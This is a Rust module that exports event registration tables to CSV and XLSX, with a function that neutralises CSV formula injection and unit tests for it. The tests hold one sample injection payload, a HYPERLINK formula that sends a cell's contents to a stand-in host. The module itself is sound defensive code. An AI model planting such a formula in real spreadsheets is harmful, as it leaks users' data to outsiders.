//! Spreadsheet exports: one table of typed cells, written as CSV (for Excel and
//! LibreOffice as Dutch people have them) or as an XLSX workbook.
//!
//! Whatever a visitor typed ends up in an organiser's spreadsheet, so a text cell is
//! never a formula: in CSV a text that starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return gets a leading apostrophe (OWASP "CSV injection"); in XLSX text is
//! written as a string cell, which no spreadsheet evaluates. Numbers and moments keep
//! their type in XLSX, so an organiser can sort and count.

use chrono_tz::Europe::Amsterdam;

use crate::i18n::Lang;
use crate::time::Timestamp;

/// One cell of an export.
#[derive(Clone, Debug, PartialEq)]
pub enum Cell {
    Text(String),
    /// A whole number (a waitlist position); empty when there is none.
    Number(Option<i64>),
    /// A moment, shown in Dutch wall-clock time; empty when there is none.
    Moment(Option<Timestamp>),
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Self::Text(text)
    }
}

/// A header row and the rows under it.
#[derive(Clone, Debug, Default)]
pub struct Table {
    pub header: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// A text that a spreadsheet would read as a formula, made plain text.
pub fn neutralised(text: &str) -> std::borrow::Cow<'_, str> {
    match text.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}").into(),
        _ => text.into(),
    }
}

/// Moments in exports: day-month-year and time, as Dutch spreadsheets show them.
fn local(at: Timestamp) -> chrono::NaiveDateTime {
    at.with_timezone(&Amsterdam).naive_local()
}

/// CSV for Excel and LibreOffice: UTF-8 with a byte-order mark (without it Excel
/// reads "é" as "Ã©") and semicolons, the list separator of Dutch Excel.
pub fn csv_bytes(table: &Table) -> anyhow::Result<Vec<u8>> {
    let mut out = "\u{feff}".as_bytes().to_vec();
    {
        let mut writer = csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(&mut out);
        let header: Vec<_> = table.header.iter().map(|h| neutralised(h)).collect();
        writer.write_record(header.iter().map(|h| h.as_ref()))?;
        for row in &table.rows {
            let cells: Vec<String> = row
                .iter()
                .map(|cell| match cell {
                    Cell::Text(text) => neutralised(text).into_owned(),
                    Cell::Number(n) => n.map(|n| n.to_string()).unwrap_or_default(),
                    Cell::Moment(at) => at
                        .map(|at| local(at).format("%d-%m-%Y %H:%M").to_string())
                        .unwrap_or_default(),
                })
                .collect();
            writer.write_record(&cells)?;
        }
        writer.flush()?;
    }
    Ok(out)
}

/// One sheet: a bold, frozen header row with filters; text as text, numbers as
/// numbers, moments as dates with their time.
pub fn xlsx_bytes(lang: Lang, table: &Table) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    use rust_xlsxwriter::{Format, Workbook};
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.set_name(lang.t("export-sheet"))?;
    let bold = Format::new().set_bold();
    let moment = Format::new().set_num_format("dd-mm-yyyy hh:mm");
    for (col, title) in table.header.iter().enumerate() {
        sheet.write_string_with_format(0, col as u16, title, &bold)?;
    }
    for (r, row) in table.rows.iter().enumerate() {
        let r = r as u32 + 1;
        for (col, cell) in row.iter().enumerate() {
            let col = col as u16;
            match cell {
                Cell::Text(text) => {
                    sheet.write_string(r, col, text)?;
                }
                Cell::Number(Some(n)) => {
                    sheet.write_number(r, col, *n as f64)?;
                }
                Cell::Moment(Some(at)) => {
                    sheet.write_datetime_with_format(r, col, local(*at), &moment)?;
                }
                Cell::Number(None) | Cell::Moment(None) => {}
            }
        }
    }
    sheet.set_freeze_panes(1, 0)?;
    if !table.header.is_empty() {
        sheet.autofilter(0, 0, table.rows.len() as u32, table.header.len() as u16 - 1)?;
    }
    sheet.autofit();
    workbook.save_to_buffer()
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeZone;

    #[test]
    fn texts_that_start_like_a_formula_are_made_plain() {
        for dangerous in [
            "=HYPERLINK(\"https://evil.example/?\"&D2,\"klik\")",
            "+31 6 1234",
            "-2+3",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(neutralised(dangerous), format!("'{dangerous}"));
        }
        for plain in [
            "Fatima",
            "",
            "Jan = Piet",
            "'al geciteerd",
            " =spatie eerst",
        ] {
            assert_eq!(neutralised(plain), plain);
        }
    }

    #[test]
    fn csv_keeps_types_readable_and_formulas_out() {
        let at = chrono::Utc.with_ymd_and_hms(2026, 3, 10, 18, 5, 0).unwrap();
        let table = Table {
            header: vec!["Naam".into(), "Plek".into(), "Aangemeld".into()],
            rows: vec![vec![
                Cell::Text("=1+1".into()),
                Cell::Number(Some(3)),
                Cell::Moment(Some(at)),
            ]],
        };
        let text = String::from_utf8(csv_bytes(&table).unwrap()).unwrap();
        assert_eq!(
            text,
            "\u{feff}Naam;Plek;Aangemeld\n'=1+1;3;10-03-2026 19:05\n"
        );
    }
}
